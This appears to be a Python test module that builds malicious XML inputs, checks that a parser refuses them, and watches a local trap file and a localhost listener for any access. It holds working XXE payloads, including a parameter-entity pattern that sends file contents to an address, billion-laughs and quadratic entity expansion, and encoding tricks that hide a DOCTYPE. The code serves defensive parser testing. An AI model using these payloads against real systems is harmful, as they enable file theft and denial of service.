"""What XML of others may hold that means harm, written into a document that is sound but for it."""

from __future__ import annotations

import codecs
import re
import socket
import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path

CANARY = "CANARY-7f21"
_ROOT = re.compile(r"<(?=[A-Za-z])")


@dataclass
class Traps:
    """A file and an address that no parser may open."""

    file: str
    address: str
    calls: list[object] = field(default_factory=list)


@contextmanager
def traps(folder: Path) -> Iterator[Traps]:
    """Lay them out; whoever calls the address is noted."""
    canary = folder / "canary.txt"
    canary.write_text(CANARY)
    with socket.create_server(("127.0.0.1", 0)) as server:
        laid = Traps(canary.as_uri(), f"http://127.0.0.1:{server.getsockname()[1]}/x")

        def listen() -> None:
            while True:
                caller, _ = server.accept()
                laid.calls.append(caller.recv(1000))
                caller.close()
                if laid.calls[-1] == b"end":
                    laid.calls.pop()
                    return

        listener = threading.Thread(target=listen)
        listener.start()
        try:
            yield laid
        finally:
            with socket.create_connection(server.getsockname()) as last:
                last.sendall(b"end")
            listener.join()


def ahead(text: str, what: str) -> str:
    """Put something between the declaration of a document and its root."""
    at = _ROOT.search(text)
    assert at is not None
    return text[: at.start()] + what + text[at.start() :]


def within(text: str, what: str) -> str:
    """Put something at the end of the root."""
    at = text.rindex("</")
    return text[:at] + what + text[at:]


def bare(text: str) -> str:
    """Return the document without its declaration."""
    return text[text.index("?>") + 2 :].lstrip() if text.startswith("<?xml") else text


def declared(encoding: str, text: str) -> str:
    return f'<?xml version="1.0" encoding="{encoding}"?>{bare(text)}'


def external(text: str, target: str) -> str:
    return within(ahead(text, f'<!DOCTYPE r [<!ENTITY x SYSTEM "{target}">]>'), "&x;")


def laughs(text: str) -> str:
    levels = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return within(ahead(text, f'<!DOCTYPE r [<!ENTITY l0 "ha">{levels}]>'), "&l9;")


def _seven(text: str) -> bytes:
    """Write a document in UTF-7, its signs of markup included."""
    return declared("UTF-7", external(text, "file:///etc/hostname")).encode("utf-7").replace(b"<!D", b"+ADwAIQ-D")


def _wide(text: str, attribute: str) -> bytes:
    return within(text, f"<d {' '.join(attribute.format(n) for n in range(20_000))}/>").encode()


Spoil = Callable[[str, Traps], bytes]

#: Each must be refused, by every door.
REFUSED: dict[str, Spoil] = {
    "an entity that is a file": lambda text, to: external(text, to.file).encode(),
    "an entity that is an address": lambda text, to: external(text, to.address).encode(),
    "a subset elsewhere": lambda text, to: ahead(text, f'<!DOCTYPE r SYSTEM "{to.address}">').encode(),
    "a public subset": lambda text, to: ahead(text, f'<!DOCTYPE r PUBLIC "-//X//Y" "{to.file}">').encode(),
    "a parameter entity": lambda text, to: ahead(
        text, f'<!DOCTYPE r [<!ENTITY % p SYSTEM "{to.address}"> %p;]>'
    ).encode(),
    "a parameter entity that carries away": lambda text, to: ahead(
        text,
        f'<!DOCTYPE r [<!ENTITY % f SYSTEM "{to.file}"><!ENTITY % e "<!ENTITY &#37; s SYSTEM \'{to.address}?%f;\'>">%e;%s;]>',
    ).encode(),
    "an unparsed entity": lambda text, to: ahead(
        text, f'<!DOCTYPE r [<!NOTATION n SYSTEM "x"><!ENTITY x SYSTEM "{to.file}" NDATA n>]>'
    ).encode(),
    "a billion laughs": lambda text, _: laughs(text).encode(),
    "a quadratic blow-up": lambda text, _: within(
        ahead(text, f'<!DOCTYPE r [<!ENTITY x "{"x" * 50_000}">]>'), "&x;" * 20_000
    ).encode(),
    "an entity of itself": lambda text, _: within(ahead(text, '<!DOCTYPE r [<!ENTITY x "&x;">]>'), "&x;").encode(),
    "an attribute by default": lambda text, _: ahead(text, '<!DOCTYPE r [<!ATTLIST r a CDATA "b">]>').encode(),
    "a document type and nothing else": lambda text, _: ahead(text, "<!DOCTYPE r>").encode(),
    "a document type behind remarks": lambda text, _: ahead(text, "<!-- > --><?p <!?>\n<!DOCTYPE r>").encode(),
    "a document type in small letters": lambda text, _: ahead(text, "<!doctype r>").encode(),
    "a document type too late": lambda text, _: within(text, "<!DOCTYPE r>").encode(),
    "UTF-16 with its mark": lambda text, to: declared("UTF-16", external(text, to.file)).encode("utf-16"),
    "UTF-16 without a mark": lambda text, to: declared("UTF-16LE", external(text, to.file)).encode("utf-16-le"),
    "UTF-16, the other way round": lambda text, to: declared("UTF-16BE", external(text, to.file)).encode("utf-16-be"),
    "UTF-16 that says nothing": lambda text, to: (
        codecs.BOM_UTF16_LE + bare(external(text, to.file)).encode("utf-16-le")
    ),
    "UTF-32": lambda text, to: declared("UTF-32", external(text, to.file)).encode("utf-32"),
    "UTF-32 without a mark": lambda text, to: declared("UCS-4", external(text, to.file)).encode("utf-32-be"),
    "UTF-7": lambda text, _: _seven(text),
    "EBCDIC": lambda text, to: declared("ebcdic-cp-us", external(text, to.file)).encode("cp037"),
    "EBCDIC that says UTF-8": lambda text, to: declared("UTF-8", external(text, to.file)).encode("cp500"),
    "Shift-JIS": lambda text, to: declared("Shift_JIS", external(text, to.file)).encode(),
    "ISO-2022-JP": lambda text, to: declared("ISO-2022-JP", external(text, to.file)).encode(),
    "HZ": lambda text, to: declared("HZ-GB-2312", external(text, to.file)).encode(),
    "Latin-1 with a document type": lambda text, to: declared("ISO-8859-1", external(text, to.file)).encode(),
    "UTF-8, longer than it need be": lambda text, _: (
        ahead(text, "§").encode().replace("§".encode(), b"\xc0\xbc!DOCTYPE r>")
    ),
    "an encoding against its mark": lambda text, to: declared("UTF-16", external(text, to.file)).encode("utf-8-sig"),
    "deep nesting": lambda text, _: within(text, "<d>" * 20_000 + "</d>" * 20_000).encode(),
    "an open end, deep down": lambda text, _: within(text, "<d>" * 100_000).encode(),
    "very many attributes": lambda text, _: _wide(text, "a{}=''"),
    "very many namespaces": lambda text, _: _wide(text, "xmlns:n{0}='u{0}'"),
    "very many elements": lambda text, _: within(text, "<d/>" * 1_500_000).encode(),
    "a text of eleven megabytes": lambda text, _: within(text, f"<d>{'x' * 11_000_000}</d>").encode(),
    "a comment of eleven megabytes": lambda text, _: ahead(text, f"<!--{'x' * 11_000_000}-->").encode(),
    "an entity of nobody": lambda text, _: within(text, "&x;").encode(),
    "a zero": lambda text, _: within(text, "\0").encode(),
    "a zero by number": lambda text, _: within(text, "&#0;").encode(),
    "half a character": lambda text, _: within(text, "\ud800").encode("utf-8", "surrogatepass"),
    "a prefix of nothing": lambda text, _: within(text, "<q:d/>").encode(),
    "two roots": lambda text, _: text.encode() + b"<r/>",
    "nothing": lambda _text, _: b"",
}
#: Each may be read: what it names is a text like any other, and nobody goes there.
INERT: dict[str, Spoil] = {
    "a stylesheet": lambda text, to: ahead(
        text, f'<?xml-stylesheet type="text/xsl" href="{to.address}"?><?xml-model href="{to.file}"?>'
    ).encode(),
    "an inclusion": lambda text, to: within(
        text,
        "".join(
            f'<i:include xmlns:i="http://www.w3.org/2001/XInclude" href="{target}" parse="text"/>'
            for target in (to.address, to.file)
        ),
    ).encode(),
    "the location of a schema": lambda text, to: within(
        text,
        f'<d xmlns:s="http://www.w3.org/2001/XMLSchema-instance" s:schemaLocation="u {to.address}"'
        f' s:noNamespaceSchemaLocation="{to.file}"/>',
    ).encode(),
    "an xml:base": lambda text, to: within(text, f'<d xml:base="{to.address}" href="{to.file}"/>').encode(),
}
